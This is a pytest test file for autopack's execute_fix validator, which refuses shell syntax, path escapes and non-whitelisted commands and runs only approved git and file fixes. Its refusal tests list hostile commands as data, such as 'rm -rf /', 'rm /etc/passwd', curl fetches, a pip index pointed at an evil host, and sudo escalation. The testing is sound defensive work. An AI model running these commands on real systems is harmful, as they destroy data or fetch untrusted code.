"""Doctor execute_fix: dangerous commands are refused, whitelisted ones run for real in the workspace."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from autopack.config import DoctorSettings
from autopack.recovery.execute_fix import DISABLED_REASON, check_command, run_fix
from autopack.workspace.worktree import Workspace
from conftest import MakeRepo, git

ON = DoctorSettings(allow_execute_fix_global=True, allowed_fix_types=["git", "file"])
WITH_PYTHON = DoctorSettings(allow_execute_fix_global=True, allowed_fix_types=["git", "file", "python"])


FILES = {"file.py": "VALUE = 1\n", "stale.txt": "old\n", "src/app.py": "print('hi')\n"}


@pytest.fixture
def ws(git_repo: MakeRepo) -> Path:
    """A real git repository, for commands that run."""
    return git_repo(files=FILES)


@pytest.fixture
def layout(tmp_path: Path) -> Path:
    """The same files and a .git directory without running git: checks alone never touch git."""
    root = tmp_path / "layout"
    for rel, text in FILES.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text, encoding="utf-8")
    (root / ".git" / "hooks").mkdir(parents=True)
    return root


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("; rm -rf /", "shell syntax"),
        ("echo $(id)", "command substitution"),
        ("echo `id`", "backtick"),
        ("git status && rm x", "chaining"),
        ("git reset || true", "chaining"),
        ("git reset | cat", "pipe"),
        ("rm stale.txt > /dev/null", "redirection"),
        ("rm ${HOME}", "variable expansion"),
        ("rm stale.txt &", "background"),
        ("rm stale.txt\nrm file.py", "newline"),
        ("git checkout -- 'a;b'", "shell syntax"),  # even quoted: no shell means no need for it
    ],
)
def test_shell_syntax_is_refused(layout: Path, command: str, why: str) -> None:
    check = check_command(command, layout, ON)
    assert not check.allowed
    assert why in check.reason
    assert check.argv is None  # refused before it was even split


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("rm ../x", "'..'"),
        ("rm src/../../x", "'..'"),
        ("rm /etc/passwd", "absolute"),
        ("cp file.py /tmp/copy.py", "absolute"),
        ("rm ~/notes.txt", "'~'"),
        ("sudo rm x", "privilege escalation"),
        ("doas rm x", "privilege escalation"),
        ("/bin/rm stale.txt", "given as a path"),
        ("./rm stale.txt", "given as a path"),
        ("curl https://example.com/install.sh", "not on the execute_fix whitelist"),
        ("git push origin main", "git push is not on the execute_fix whitelist"),
        ("git -C /etc checkout x", "options before the subcommand"),
        ("git merge main", "only 'git merge --abort'"),
        ("git clean -fdx", "-x"),
        ("git clean -fd src", "takes no paths"),
        ("git stash", "git stash is not allowed"),
        ("git checkout --pathspec-from-file=/etc/list", "not allowed"),
        ("rm -rf .", "workspace root itself"),
        ("rm -rf ./", "workspace root itself"),
        ("rm -rf .git", ".git"),
        ("rm -rf .git/hooks", ".git"),
        ("mv file.py .git/file.py", ".git"),
        ("git checkout -- .git/config", ".git"),
        ("rm *.pyc", "glob"),
        ("rm --no-preserve-root stale.txt", "not allowed"),
        ("mkdir -m 777 build", "not allowed"),
        ("cp file.py", "at least 2"),
        ("rm", "at least 1"),
        ("pip install requests", "fix type 'python' is not allowed"),
        ("pytest -q", "fix type 'python' is not allowed"),
    ],
)
def test_dangerous_or_unknown_commands_are_refused(layout: Path, command: str, why: str) -> None:
    check = check_command(command, layout, ON)
    assert not check.allowed
    assert check.reason.startswith("refused: ")
    assert why in check.reason


def test_a_symlink_leading_out_of_the_workspace_is_refused(ws: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "file").write_text("precious\n", encoding="utf-8")
    (ws / "link").symlink_to(outside, target_is_directory=True)
    check = check_command("rm link/file", ws, ON)
    assert not check.allowed and "symlink" in check.reason
    outcomes = run_fix(["rm link/file"], ws, ON)
    assert outcomes[0].exit_code is None
    assert (outside / "file").read_text(encoding="utf-8") == "precious\n"


def test_a_symlink_to_the_git_directory_is_refused(layout: Path) -> None:
    (layout / "gitlink").symlink_to(layout / ".git", target_is_directory=True)
    check = check_command("rm -rf gitlink/hooks", layout, ON)
    assert not check.allowed and ".git" in check.reason


@pytest.mark.parametrize(
    "command",
    [
        "pip install -e .",
        "pip install git+https://github.com/x/y",
        "pip install ./vendor/pkg",
        "pip install --index-url http://evil.invalid/simple requests",
        "pip install pkg==1.0 --target /usr/lib",
        "pip uninstall requests",
        "python -c 'import os'",
        "python -m http.server",
        "pytest --basetemp=/home",
        "pytest -p evil_plugin",
        "pytest ../elsewhere/test_x.py",
    ],
)
def test_python_commands_outside_the_narrow_whitelist_are_refused(layout: Path, command: str) -> None:
    assert not check_command(command, layout, WITH_PYTHON).allowed


@pytest.mark.parametrize(
    ("command", "fix_type"),
    [
        ("git checkout -- file.py", "git"),
        ("git checkout -- .", "git"),
        ("git checkout HEAD -- file.py src", "git"),
        ("git reset", "git"),
        ("git reset -q --hard", "git"),
        ("git reset HEAD -- file.py", "git"),
        ("git reset --hard HEAD", "git"),
        ("git clean -fd", "git"),
        ("git merge --abort", "git"),
        ("mkdir -p build/out", "file"),
        ("rm -f stale.txt", "file"),
        ("cp -r src src_backup", "file"),
        ("mv stale.txt stale.bak", "file"),
        ("pip install requests==2.32.3", "python"),
        ("python -m pip install 'httpx[http2]'", "python"),
        ("pytest -q -x tests/test_x.py::test_y[param-1]", "python"),
        ("python -m pytest -k 'login and not slow' --tb=short", "python"),
    ],
)
def test_whitelisted_commands_are_allowed(layout: Path, command: str, fix_type: str) -> None:
    check = check_command(command, layout, WITH_PYTHON)
    assert check.allowed, check.reason
    assert check.fix_type == fix_type
    assert check.argv is not None and check.argv[0] in command


def test_nothing_runs_when_execute_fix_is_disabled(ws: Path) -> None:
    outcomes = run_fix(["rm stale.txt"], ws, DoctorSettings(allowed_fix_types=["git", "file"]))
    assert [o.reason for o in outcomes] == [DISABLED_REASON]
    assert "doctor.allow_execute_fix_global: true" in DISABLED_REASON
    assert (ws / "stale.txt").exists()


def test_nothing_runs_beyond_the_per_phase_limit(ws: Path) -> None:
    outcomes = run_fix(["rm stale.txt"], ws, ON, already_used=1)
    assert not outcomes[0].allowed
    assert "max_execute_fix_per_phase (1)" in outcomes[0].reason
    assert (ws / "stale.txt").exists()


def test_one_refused_command_stops_the_whole_fix_before_anything_runs(ws: Path) -> None:
    outcomes = run_fix(["rm stale.txt", "git push"], ws, ON)
    assert (ws / "stale.txt").exists()
    assert outcomes[0].allowed and outcomes[0].exit_code is None
    assert "command 2" in outcomes[0].reason
    assert not outcomes[1].allowed


def test_rm_removes_a_stale_file(ws: Path) -> None:
    [outcome] = run_fix(["rm stale.txt"], ws, ON)
    assert outcome.exit_code == 0 and outcome.succeeded
    assert not (ws / "stale.txt").exists()


def test_mkdir_creates_a_directory(ws: Path) -> None:
    [outcome] = run_fix(["mkdir build"], ws, ON)
    assert outcome.succeeded
    assert (ws / "build").is_dir()


def test_git_checkout_restores_a_file(ws: Path) -> None:
    (ws / "file.py").write_text("VALUE = 'broken'\n", encoding="utf-8")
    [outcome] = run_fix(["git checkout -- file.py"], ws, ON)
    assert outcome.succeeded
    assert (ws / "file.py").read_text(encoding="utf-8") == "VALUE = 1\n"


def test_git_merge_abort_ends_a_conflicted_merge(ws: Path) -> None:
    git(ws, "checkout", "-q", "-b", "other")
    (ws / "file.py").write_text("VALUE = 'other'\n", encoding="utf-8")
    git(ws, "commit", "-q", "-am", "other")
    git(ws, "checkout", "-q", "main")
    (ws / "file.py").write_text("VALUE = 'main'\n", encoding="utf-8")
    git(ws, "commit", "-q", "-am", "main")
    with pytest.raises(Exception):  # noqa: B017 - git exits 1 on the conflict
        git(ws, "merge", "other")
    [outcome] = run_fix(["git merge --abort"], ws, ON)
    assert outcome.succeeded
    assert (ws / "file.py").read_text(encoding="utf-8") == "VALUE = 'main'\n"
    assert not (ws / ".git" / "MERGE_HEAD").exists()


def test_commands_run_in_order_and_stop_at_the_first_failure(ws: Path) -> None:
    outcomes = run_fix(["mkdir first", "rm missing.txt", "mkdir never"], ws, ON)
    assert outcomes[0].succeeded and (ws / "first").is_dir()
    assert outcomes[1].exit_code not in (0, None)
    assert "No such file" in outcomes[1].output
    assert outcomes[2].exit_code is None and "earlier command failed" in outcomes[2].reason
    assert not (ws / "never").exists()


def test_a_command_over_the_timeout_is_killed(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The venv's python first on PATH, so "python -m pytest" finds pytest.
    monkeypatch.setenv("PATH", str(Path(sys.executable).parent) + os.pathsep + os.environ["PATH"])
    monkeypatch.setenv("PYTEST_DISABLE_PLUGIN_AUTOLOAD", "1")
    (ws / "test_slow.py").write_text("import time\n\ndef test_slow():\n    time.sleep(60)\n", encoding="utf-8")
    settings = DoctorSettings(allow_execute_fix_global=True, allowed_fix_types=["python"], command_timeout_seconds=1.5)
    [outcome] = run_fix(["python -m pytest -q test_slow.py"], ws, settings)
    assert outcome.allowed and outcome.exit_code is None
    assert "timed out" in outcome.reason


def test_pytest_runs_for_real_when_python_fixes_are_allowed(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(Path(sys.executable).parent) + os.pathsep + os.environ["PATH"])
    monkeypatch.setenv("PYTEST_DISABLE_PLUGIN_AUTOLOAD", "1")
    (ws / "test_ok.py").write_text("def test_ok():\n    assert True\n", encoding="utf-8")
    [outcome] = run_fix(["python -m pytest -q test_ok.py"], ws, WITH_PYTHON)
    assert outcome.succeeded, outcome.output
    assert "1 passed" in outcome.output


# --- git stays on the run branch at its last approved commit -------------------------------------

KEEP = "stay on the run branch at its last approved commit"


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("git reset --hard HEAD~1", "only HEAD may be named"),
        ("git reset --hard HEAD^", "only HEAD may be named"),
        ("git reset --soft HEAD~1", "drop approved phase commits"),
        ("git reset --mixed main", "only HEAD may be named"),
        ("git reset --hard ORIG_HEAD", "only HEAD may be named"),
        ("git reset --hard 1a2b3c4", "only HEAD may be named"),
        ("git reset --keep HEAD@{1}", "only HEAD may be named"),
        ("git reset main", KEEP),
        ("git reset file.py", "put paths after '--'"),
        ("git reset HEAD file.py", "put paths after '--'"),
        ("git reset --hard -- file.py", "does not take paths"),
        ("git reset --soft HEAD -- file.py", "does not take paths"),
        ("git reset --hard --soft", "one mode"),
        ("git reset --", "at least one path"),
        ("git reset --patch", "not allowed"),
        ("git checkout -b other", "switches the worktree off the run branch"),
        ("git checkout -B main", "switches the worktree off the run branch"),
        ("git checkout --detach", "switches the worktree off the run branch"),
        ("git checkout --orphan fresh", "switches the worktree off the run branch"),
        ("git checkout --orphan=fresh", "switches the worktree off the run branch"),
        ("git checkout -t origin/main", "switches the worktree off the run branch"),
        ("git checkout -", "switches the worktree off the run branch"),
        ("git checkout main", "could switch branches or detach HEAD"),
        ("git checkout @{-1}", "could switch branches or detach HEAD"),
        ("git checkout HEAD", "could switch branches or detach HEAD"),
        ("git checkout .", "could switch branches or detach HEAD"),
        ("git checkout --ours file.py", "could switch branches or detach HEAD"),
        ("git checkout", "without '-- <paths>'"),
        ("git checkout HEAD~1 -- file.py", "only HEAD, the last approved commit"),
        ("git checkout main -- file.py", "only HEAD, the last approved commit"),
        ("git checkout HEAD --", "at least one path"),
    ],
)
def test_git_forms_that_could_leave_the_approved_commit_are_refused_saying_why(
    layout: Path, command: str, why: str
) -> None:
    check = check_command(command, layout, ON)
    assert not check.allowed
    assert why in check.reason


@pytest.mark.parametrize(
    "command",
    [
        "git stash",
        "git stash -u",
        "git stash push -m 'before the fix' -- src/app.py",
        "git stash save before the fix",
        "git stash pop",
        "git stash apply stash@{0}",
        "git stash drop",
        "git stash list",
    ],
)
def test_git_stash_is_refused_in_every_form_because_refs_stash_is_shared_with_your_checkout(
    layout: Path, command: str
) -> None:
    reason = check_command(command, layout, ON).reason
    assert reason.startswith("refused: git stash is not allowed in any form")
    assert "refs/stash, which is shared with your own checkout (git worktrees share refs)" in reason
    assert "use 'git checkout -- <paths>' or 'git reset --hard HEAD'" in reason


@pytest.mark.parametrize("command", ["git checkout -b other", "git checkout main", "git checkout HEAD~1 -- file.py"])
def test_a_refused_checkout_names_the_file_restore_forms_that_are_allowed(layout: Path, command: str) -> None:
    reason = check_command(command, layout, ON).reason
    assert "'git checkout -- <paths>' or 'git checkout HEAD -- <paths>'" in reason


@pytest.fixture
def run_ws(git_repo: MakeRepo, tmp_path: Path) -> Workspace:
    """A real run worktree on ``autopack/run-1`` with one approved phase commit, and a dirty state:
    file.py modified and staged, src/app.py modified, new.txt untracked."""
    repo = git_repo(files={**FILES, ".gitignore": ".env\n"})
    ws = Workspace.open(repo, "run-1", tmp_path / "wt")
    (ws.root / "phase.txt").write_text("approved\n", encoding="utf-8")
    assert ws.commit(Workspace.commit_message("run-1", "p1", "Approved", "m", "ok", 1)) is not None
    (ws.root / "file.py").write_text("VALUE = 'broken'\n", encoding="utf-8")
    git(ws.root, "add", "file.py")
    (ws.root / "src" / "app.py").write_text("print('broken')\n", encoding="utf-8")
    (ws.root / "new.txt").write_text("untracked\n", encoding="utf-8")
    (ws.root / ".env").write_text("SECRET=1\n", encoding="utf-8")
    return ws


def on_the_approved_commit(ws: Workspace) -> bool:
    branch = git(ws.root, "symbolic-ref", "-q", "HEAD").strip()
    return branch == "refs/heads/autopack/run-1" and ws.head() == ws.find_phase_commit("p1") is not None


def staged(ws: Workspace) -> list[str]:
    return git(ws.root, "diff", "--cached", "--name-only").split()


def text(ws: Workspace, rel: str) -> str:
    return (ws.root / rel).read_text(encoding="utf-8")


def test_refused_git_forms_leave_the_approved_commit_and_the_branch_alone(run_ws: Workspace) -> None:
    stash_before = git(run_ws.root, "stash", "list")
    for command in ("git reset --hard HEAD~1", "git checkout -b other", "git checkout main", "git checkout --detach"):
        [outcome] = run_fix([command], run_ws.root, ON)
        assert not outcome.allowed and outcome.exit_code is None, command
        assert on_the_approved_commit(run_ws), command
    assert text(run_ws, "file.py") == "VALUE = 'broken'\n"  # nothing ran at all
    assert git(run_ws.root, "stash", "list") == stash_before


@pytest.mark.parametrize(
    "command",
    [
        "git reset",
        "git reset -q",
        "git reset --hard",
        "git reset --hard HEAD",
        "git reset --soft HEAD",
        "git reset --mixed HEAD",
        "git reset --keep HEAD",
        "git reset -- file.py",
        "git reset HEAD -- file.py",
        "git checkout -- src/app.py",
        "git checkout HEAD -- file.py src",
        "git checkout -- .",
    ],
)
def test_allowed_git_forms_run_for_real_and_stay_on_the_approved_commit(run_ws: Workspace, command: str) -> None:
    [outcome] = run_fix([command], run_ws.root, ON)
    assert outcome.succeeded, outcome.output
    assert on_the_approved_commit(run_ws)
    assert text(run_ws, "phase.txt") == "approved\n"
    assert text(run_ws, ".env") == "SECRET=1\n"  # ignored files are never swept up


def test_a_refused_git_stash_leaves_the_changes_and_your_stash_list_alone(run_ws: Workspace, tmp_path: Path) -> None:
    [outcome] = run_fix(["git stash -u"], run_ws.root, ON)
    assert not outcome.allowed and outcome.exit_code is None
    assert git(tmp_path / "repo", "stash", "list") == ""  # the user's own checkout, which shares refs/stash
    assert text(run_ws, "file.py") == "VALUE = 'broken'\n" and text(run_ws, "new.txt") == "untracked\n"


def test_git_reset_hard_discards_changes_but_keeps_the_phase_commit(run_ws: Workspace) -> None:
    [outcome] = run_fix(["git reset --hard HEAD"], run_ws.root, ON)
    assert outcome.succeeded
    assert text(run_ws, "file.py") == "VALUE = 1\n" and text(run_ws, "src/app.py") == "print('hi')\n"
    assert staged(run_ws) == [] and text(run_ws, "new.txt") == "untracked\n"


def test_git_reset_paths_unstages_and_keeps_the_edit(run_ws: Workspace) -> None:
    [outcome] = run_fix(["git reset HEAD -- file.py"], run_ws.root, ON)
    assert outcome.succeeded
    assert staged(run_ws) == [] and text(run_ws, "file.py") == "VALUE = 'broken'\n"


def test_git_checkout_head_paths_restores_staged_and_unstaged_files(run_ws: Workspace) -> None:
    [outcome] = run_fix(["git checkout HEAD -- file.py src/app.py"], run_ws.root, ON)
    assert outcome.succeeded
    assert text(run_ws, "file.py") == "VALUE = 1\n" and text(run_ws, "src/app.py") == "print('hi')\n"
    assert staged(run_ws) == []


def test_git_clean_removes_untracked_files_but_keeps_ignored_ones(run_ws: Workspace) -> None:
    [outcome] = run_fix(["git clean -fd"], run_ws.root, ON)
    assert outcome.succeeded
    assert not (run_ws.root / "new.txt").exists()
    assert text(run_ws, ".env") == "SECRET=1\n" and on_the_approved_commit(run_ws)
